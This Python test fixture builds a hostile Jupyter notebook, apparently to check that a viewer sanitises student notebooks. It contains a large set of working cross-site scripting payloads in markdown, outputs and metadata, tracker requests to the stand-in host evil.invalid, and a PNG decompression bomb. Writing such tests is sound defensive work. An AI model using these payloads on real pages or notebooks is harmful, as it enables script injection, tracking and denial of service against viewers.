"""What a hostile student may put into a notebook to act in the browser of whoever looks at it.

Each payload calls `ran("<its name>")` when it runs, or asks https://evil.invalid for something.
"""

from __future__ import annotations

import base64
import io
import zlib

from nbformat import NotebookNode, from_dict, v4
from PIL import Image

EVIL = "https://evil.invalid"


def png(width: int = 2, height: int = 2, trailer: bytes = b"") -> str:
    """Return a small picture in base64, with whatever comes behind its end."""
    file = io.BytesIO()
    Image.new("RGB", (width, height), "red").save(file, format="PNG")
    return base64.b64encode(file.getvalue() + trailer).decode()


def bomb() -> str:
    """Return a picture of a few kilobytes that needs gigabytes when decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checked = kind + data
        return len(data).to_bytes(4, "big") + checked + zlib.crc32(checked).to_bytes(4, "big")

    header = (60_000).to_bytes(4, "big") * 2 + bytes((8, 2, 0, 0, 0))
    pixels = zlib.compress(bytes(10**6))
    parts = (chunk(b"IHDR", header), chunk(b"IDAT", pixels), chunk(b"IEND", b""))
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"".join(parts)).decode()


def encoded(text: str) -> str:
    """Return text in base64."""
    return base64.b64encode(text.encode()).decode()


def img(name: str) -> str:
    """Return the shortest tag that runs something."""
    return f"<img src=x onerror=\"ran('{name}')\">"


def js(name: str) -> str:
    """Return a script's text, without quotes and spaces."""
    return f"ran(/{name.replace(' ', '-')}/.source.replaceAll(/-/g,String.fromCharCode(32)))"


# ----------------------------------------------------------------------------- markdown
MARKDOWN = {
    "script": "<script>ran('script')</script>",
    "img": f"Look: {img('img')}",
    "upper case": "<IMG SRC=x ONERROR=\"ran('upper case')\">",
    "svg": "<svg onload=\"ran('svg')\"><circle r=1 /></svg>",
    "svg script": "<svg><script>ran('svg script')</script></svg>",
    "details": "<details open ontoggle=\"ran('details')\">more</details>",
    "focus": "<input autofocus onfocus=\"ran('focus')\">",
    "hover": "<p onmouseover=\"ran('hover')\">here</p>",
    "srcdoc": "<iframe srcdoc=\"<script>parent.ran('srcdoc')</script>\"></iframe>",
    "iframe": "<iframe src=\"javascript:parent.ran('iframe')\"></iframe>",
    "embed": f'<embed src="{EVIL}/embed"><object data="{EVIL}/object"></object>',
    "media": f'<video src="{EVIL}/video" autoplay></video><audio src="{EVIL}/audio"></audio>',
    "stylesheet": f'<link rel="stylesheet" href="{EVIL}/style.css">',
    "style": f"<style>@import url({EVIL}/import.css); p {{ background: url({EVIL}/p) }}</style>",
    "style attribute": f'<b style="background: url({EVIL}/attribute)">bold</b>',
    "form": f'<form action="{EVIL}/form"><button>Send</button></form>',
    "refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh">',
    "base": f'<base href="{EVIL}/base/">',
    "unclosed": f"<div title='{img('unclosed')}",
    "closers": f"</textarea></title></style></script>{img('closers')}",
    "comment": f"<!--><!-- -->{img('comment')}-->",
    "cdata": f"<![CDATA[ > ]]>{img('cdata')} <?php {img('cdata')} ?>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=ran(/mutation/.source)&gt;">',
    "in a heading": f"## A heading {img('in a heading')}",
    "in a table": f"| a | b |\n|---|---|\n| {img('in a table')} | c |",
    "in a list": f"1. one\n   {img('in a list')}\n2. two",
    "in a quotation": f"> said\n> {img('in a quotation')}",
    "split in a quotation": "> <img src=x\n> onerror=\"ran('split in a quotation')\">",
    "in a formula": f"$$ a < b {img('in a formula')} $$ and $x <img src=x onerror=ran(1)> y$",
    "in an environment": f"\\begin{{align}} a {img('in an environment')} \\end{{align}}",
    "escaped": f"\\{img('escaped')} \\\\{img('escaped')}",
    "in alt": f"![{img('in alt')}](attachment:good.png)",
    "link": f"[click](javascript:{js('link')})",
    "link with entities": f"[click](java&#115;cript&colon;{js('link with entities')})",
    "link in case": f"[click]( JaVaScRiPt:{js('link in case')})",
    "link in brackets": f"[click](<javascript:{js('link in brackets')}>)",
    "link with space": f"[click](< javascript:{js('link with space')}>)",
    "link on a new line": f"[click](\njavascript:{js('link on a new line')})",
    "link with escapes": f"[click](javascript\\:{js('link with escapes')})",
    "link to data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to vbscript": "[click](vbscript:msgbox)",
    "link title": '[click](https://a.invalid "x\\" onmouseover=\\"ran(\'link title\')")',
    "link address": "[click](https://a.invalid/\"onmouseover=\"ran('link'))",
    "autolink": f"<javascript:{js('autolink')}>",
    "reference": f"[click][r]\n\n[r]: javascript:{js('reference')}",
    "reference below": f"[click][s]\n\n[s]:\n  javascript:{js('reference below')}",
    "reference in a list": f"- [click][t]\n- [t]: <javascript:{js('reference in a list')}>",
    "remote image": f"![tracker]({EVIL}/image.png)",
    "remote image by reference": f"![tracker][u]\n\n[u]: {EVIL}/reference.png",
    "remote image without scheme": "![tracker](//evil.invalid/scheme.png)",
    "image of a path": "![tracker](/api/contents/path)",
    "linked image": f"[![tracker]({EVIL}/linked.png)](https://a.invalid)",
    "image of svg": f"![picture](data:image/svg+xml;base64,{encoded('<svg/>')})",
    "image of html": f"![picture](data:text/html;base64,{encoded(img('image of html'))})",
    "image that is html": f"![picture](data:image/png;base64,{encoded('<script>1</script>')})",
    "escaped picture": "\\![picture](attachment:good.png) and \\\\![picture](attachment:good.png)",
    "escaped twin": "![a](attachment:good.png) and \\![b](attachment:picture-1.png)",
    "missing attachment": "![picture](attachment:missing.png)",
    "attachment of svg": "![picture](attachment:evil.svg)",
    "attachment of html": "![picture](attachment:evil.html)",
    "attachment that breaks out": "![picture](attachment:break.png)",
    "diagram": f"```mermaid\ngraph TD; A --> B\n{img('diagram')}\n```",
    "language of code": "```x\"onmouseover=\"ran('language')\nx = 1\n```",
    "formula with a link": rf"$\href{{javascript:{js('formula with a link')}}}{{x}}$",
    "formula that loads": r"$\require{href} \require[x]{../evil} \unicode{x41}$",
    "formula with an id": r"$\cssId{q-test}{x} \class{score}{y} \style{position:fixed}{z}$",
    "formula with a token": rf'$\mmlToken{{mi}}[href="javascript:{js("token")}"]{{x}}$',
    "formula with an image": rf"$\includegraphics{{{EVIL}/tex.png}} \bbox[red]{{x}}$",
    "heading that is an id": "# q-test\n\nText\n\n## q *test*\n\nq-test\n======\n\nq test\n---",
    "heading in a list": "- # q-test\n\n> # q-test\n\n> q-test\n> =-=\n\nTerm\n: # q-test",
}
ATTACHMENTS = {
    "good.png": {"image/png": png()},
    "evil.svg": {"image/svg+xml": encoded("<svg onload='parent.ran(1)'/>")},
    "evil.html": {"text/html": encoded("<script>parent.ran(1)</script>")},
    "break.png": {"image/png": f'x" onerror="{js("attachment that breaks out")}'},
}


# ------------------------------------------------------------------------------ outputs
def stream(text: object) -> dict:
    """Return a stream, whatever its text is."""
    return {"output_type": "stream", "name": "stdout", "text": text}


def display(data: dict, **metadata) -> dict:
    """Return a displayed output."""
    return {"output_type": "display_data", "data": data, "metadata": metadata}


OUTPUTS = {
    "stream": stream(f"hello {img('stream')}"),
    "report": stream(f"✓ {img('r')} `{img('r')}`\n  {img('r')}\n✗ `{img('r')}\n✎ {img('r')}"),
    "stream with colours": stream(f"\x1b[31m{img('stream with colours')}\x1b[0m"),
    "stream with a hyperlink": stream(f"\x1b]8;;javascript:{js('osc')}\x07click\x1b]8;;\x07"),
    "stream with broken codes": stream("\x1b[48m \x1b[38;2;999;1m \x1b[38;5;-1m\x1b[1m\x1b[38m!"),
    "stream of lists": stream([img("stream of lists"), 3]),
    "stream of a number": stream(3),
    "stream on another stream": {"output_type": "stream", "name": "<b>", "text": img("name")},
    "text": display({"text/plain": img("text")}),
    "result": {
        "output_type": "execute_result",
        "data": {"text/plain": img("result")},
        "metadata": {},
        "execution_count": img("result"),
    },
    "error": {
        "output_type": "error",
        "ename": img("error"),
        "evalue": img("error"),
        "traceback": [f"\x1b[31m{img('error')}", 3],
    },
    "html": display({"text/html": img("html"), "text/plain": "<html>"}),
    "isolated html": display(
        {"text/html": f"<img src='{EVIL}/isolated'>"},
        **{"text/html": {"isolated": True}},
    ),
    "javascript": display({"application/javascript": "ran('javascript')"}),
    "svg picture": display({"image/svg+xml": "<svg onload=\"ran('svg picture')\"/>"}),
    "latex": display({"text/latex": rf"$\href{{javascript:{js('latex')}}}{{x}}$ {img('latex')}"}),
    "markdown": display({"text/markdown": img("markdown")}),
    "mermaid": display({"text/vnd.mermaid": f"graph TD; A --> B {img('mermaid')}"}),
    "pdf": display({"application/pdf": encoded("%PDF-1.4")}),
    "widget": display({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}}),
    "bokeh": display({"application/vnd.bokehjs_exec.v0+json": "", "text/html": img("bokeh")}),
    "png that is html": display({"image/png": encoded(img("png that is html"))}),
    "png that breaks out": display({"image/png": f'x" onerror="{js("png that breaks out")}'}),
    "png with html behind": display({"image/png": png(trailer=img("behind").encode())}),
    "png of great size": display({"image/png": bomb()}),
    "png with a width": display(
        {"image/png": png()}, **{"image/png": {"width": f"1 onload={js('png with a width')}"}}
    ),
    "png with a file": display(
        {"image/png": png()}, filenames={"image/png": f"{EVIL}/filename.png"}
    ),
    "png with a text": display(
        {"image/png": png()}, **{"image/png": {"alt": f'"> {img("png with a text")}'}}
    ),
    "jpeg that is html": display({"image/jpeg": encoded(img("jpeg that is html"))}),
    "data of a list": {"output_type": "display_data", "data": [1, 2], "metadata": "no"},
    "unknown kind": {"output_type": "evil", "data": {"text/html": img("unknown kind")}},
}


# What must run, and be asked for, where nothing is done about it; else the tests test nothing.
RUNS = {
    *("script", "img", "upper case", "svg", "svg script", "details", "focus", "hover", "srcdoc"),
    *("iframe", "closers", "comment", "cdata", "in a heading", "in a table", "in a list"),
    *("in a quotation", "split in a quotation", "escaped", "link", "link in brackets", "autolink"),
    *("reference", "reference in a list", "diagram", "html", "markdown", "bokeh"),
    "png with a width",
}
ASKS = {
    *("embed", "object", "video", "audio", "style.css", "import.css", "attribute", "image.png"),
    *("reference.png", "scheme.png", "linked.png", "isolated", "filename.png"),
}


def text_cell(name: str) -> NotebookNode:
    """Return a text cell with one payload, and all attachments."""
    cell = v4.new_markdown_cell(MARKDOWN[name], id=f"text-{list(MARKDOWN).index(name)}")
    return from_dict(cell | {"attachments": ATTACHMENTS})


def code_cell(name: str) -> NotebookNode:
    """Return a code cell with one hostile output."""
    cell = v4.new_code_cell(f"# {img('code')}", id=f"code-{list(OUTPUTS).index(name)}")
    return from_dict(cell | {"outputs": [OUTPUTS[name]]})


def counted_cell() -> NotebookNode:
    """Return a code cell whose execution count is no number: a kernel may say anything."""
    cell = v4.new_code_cell("1", id="counted")
    return from_dict(cell | {"execution_count": img("execution count")})


def hostile_notebook() -> NotebookNode:
    """Return a notebook of all payloads, hostile in its raw cells and metadata, too."""
    cells = [text_cell(name) for name in MARKDOWN] + [code_cell(name) for name in OUTPUTS]
    cells += [counted_cell(), v4.new_raw_cell(img("raw"), id="raw")]
    metadata = {
        "title": f"</title>{img('title')}",
        "language_info": {"name": ["odd"], "pygments_lexer": img("lexer")},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"m": {}}}},
    }
    return from_dict(v4.new_notebook() | {"cells": cells, "metadata": metadata})
